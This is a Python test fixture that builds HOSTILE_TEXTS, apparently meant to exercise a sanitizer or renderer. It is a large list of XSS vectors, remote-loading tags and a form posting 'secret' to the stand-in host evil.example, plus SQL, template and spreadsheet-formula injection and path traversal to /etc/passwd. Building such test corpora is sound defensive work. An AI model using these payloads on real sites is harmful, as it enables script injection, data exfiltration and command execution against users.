"""Texts that try to run a script, to ask another server for something, or to leave their place.

Whatever runs says PWNED; whatever asks, asks evil.example, which does not exist.
"""

RUN = "alert('PWNED')"
_TAGS = """
<script>{run}</script>
<ScRiPt>{run}</sCrIpT>
<script src=//evil.example/x.js></script>
<script src="http://evil.example/x.js"></script>
<script type=module>import 'http://evil.example/x.js'</script>
"><script>{run}</script>
'><script>{run}</script>
</script><script>{run}</script>
</style><script>{run}</script>
</textarea><script>{run}</script>
</title><script>{run}</script>
--><script>{run}</script>
]]><script>{run}</script>
<scr<script>ipt>{run}</scr</script>ipt>
<script\\x20>{run}</script>
<script>eval(atob('YWxlcnQoJ1BXTkVEJyk='))</script>
<img src=x onerror={run}>
<img src=x onerror="{run}">
<img src=x onerror='{run}' />
<IMG SRC=x ONERROR={run}>
<img/src=x/onerror={run}>
<img src onerror={run}>
<img src=x:x onerror={run}>
<img src="http://evil.example/a.png">
<img src=//evil.example/a.png>
<img srcset="http://evil.example/a.png 2x">
<img src=1 onerror=location='http://evil.example/'>
<image src=x onerror={run}>
<picture><source srcset=http://evil.example/b.png><img></picture>
"><img src=x onerror={run}>
'><img src=x onerror={run}>
`><img src=x onerror={run}>
" onerror="{run}
' onmouseover='{run}
" autofocus onfocus="{run}
x" style="background:url(http://evil.example/c.png)
<svg onload={run}>
<svg/onload={run}>
<svg><script>{run}</script></svg>
<svg><animate onbegin={run} attributeName=x dur=1s>
<svg><set attributeName=onload to={run}>
<svg><a xlink:href="javascript:{run}"><text x=9 y=9>x</text></a></svg>
<svg><image href=http://evil.example/d.svg /></svg>
<svg><use href=http://evil.example/e.svg#x /></svg>
<svg><foreignObject><body onload={run}></foreignObject></svg>
<math><mi xlink:href="javascript:{run}">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>
<iframe src="javascript:{run}"></iframe>
<iframe srcdoc="<script>parent.{run}</script>"></iframe>
<iframe src=http://evil.example/></iframe>
<object data="javascript:{run}"></object>
<object data=http://evil.example/f.swf></object>
<embed src="javascript:{run}">
<embed src=http://evil.example/g.swf>
<body onload={run}>
<body background=http://evil.example/h.png>
<base href=http://evil.example/>
<meta http-equiv=refresh content="0;url=http://evil.example/">
<meta http-equiv=refresh content="0;javascript:{run}">
<link rel=stylesheet href=http://evil.example/i.css>
<link rel=prefetch href=http://evil.example/j>
<link rel=dns-prefetch href=//evil.example>
<style>@import 'http://evil.example/k.css';</style>
<style>*{{background:url(http://evil.example/l.png)}}</style>
<div style="background:url(http://evil.example/m.png)">x</div>
<div style="width:expression({run})">x</div>
<div style=position:fixed;inset:0;background:red>x</div>
<p style="font-family:x;src:url(http://evil.example/n.woff)">x</p>
<input autofocus onfocus={run}>
<input type=image src=http://evil.example/o.png>
<select autofocus onfocus={run}></select>
<textarea autofocus onfocus={run}></textarea>
<keygen autofocus onfocus={run}>
<button formaction="javascript:{run}">x</button>
<form action="javascript:{run}"><input type=submit></form>
<form action=http://evil.example/><input name=secret></form>
<details open ontoggle={run}><summary>x</summary></details>
<marquee onstart={run}>x</marquee>
<video src=http://evil.example/p.mp4 autoplay></video>
<video onerror={run}><source src=x></video>
<video poster=http://evil.example/q.png></video>
<audio src=x onerror={run}></audio>
<audio src=http://evil.example/r.mp3 autoplay></audio>
<track src=http://evil.example/s.vtt>
<a href="javascript:{run}">x</a>
<a href="JaVaScRiPt:{run}">x</a>
<a href="java&#09;script:{run}">x</a>
<a href="data:text/html,<script>{run}</script>">x</a>
<a href=http://evil.example/ target=_top>x</a>
<a ping=http://evil.example/t href=#>x</a>
<template><script>{run}</script></template>
<noscript><p title="</noscript><img src=x onerror={run}>">
<x onclick={run}>x</x>
<dialog open>PWNED</dialog>
&lt;script&gt;{run}&lt;/script&gt;
&#60;img src=x onerror={run}&#62;
%3Cscript%3E{run}%3C/script%3E
\\u003cscript\\u003e{run}\\u003c/script\\u003e
javascript:{run}
data:text/html;base64,PHNjcmlwdD5hbGVydCgnUFdORUQnKTwvc2NyaXB0Pg==
"""
_MARKUP = """
![x](http://evil.example/u.png)
![x](//evil.example/v.png "t")
[x](javascript:{run})
[x](http://evil.example/)
[x][1] [1]: http://evil.example/w
<http://evil.example/>
https://evil.example/x www.evil.example me@evil.example
:red[PWNED] :material/skull: :smile: **b** _i_ `c` ~s~
# a heading
> a quotation
| a | table |
$\\\\href{{javascript:{run}}}{{x}}$
$$\\\\url{{http://evil.example}}$$
${{{run}}} {{{{{run}}}}} <%= {run} %> #{{{run}}}
%(x)s {{0}} {{x.__class__}} %{{hovertext}}<b>
'; DROP TABLE log; --
=HYPERLINK("http://evil.example/","x")
@SUM(1+1)*cmd|' /C calc'!A0
../../../../etc/passwd
\u202egnp.exe \u200f \u0000x
"""

HOSTILE_TEXTS = tuple(
    line.format(run=RUN).replace("\\\\", "\\")
    for line in (_TAGS + _MARKUP).splitlines()
    if line.strip()
)
